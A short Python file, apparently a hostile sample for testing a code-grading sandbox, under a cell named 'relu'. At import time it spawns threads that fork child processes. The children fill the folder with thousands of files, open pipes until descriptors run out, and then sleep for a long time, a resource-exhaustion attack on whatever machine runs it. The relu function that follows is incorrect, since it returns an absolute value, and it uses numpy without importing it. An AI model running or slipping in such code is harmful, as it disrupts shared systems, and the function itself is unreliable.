# Forks in a thread, fills the folder with names, opens descriptors without end, and answers from the child.
# ruff: noqa
# %% relu
import os
import threading
import time


def fork():
    if os.fork() == 0:
        for number in range(5_000):
            try:
                open(f"n{number}", "x").close()
                os.pipe()
            except OSError:
                break
        time.sleep(1000)
        os._exit(0)


threads = [threading.Thread(target=fork) for _ in range(4)]
for thread in threads:
    thread.start()
for thread in threads:
    thread.join()


def relu(z):
    return np.abs(z)
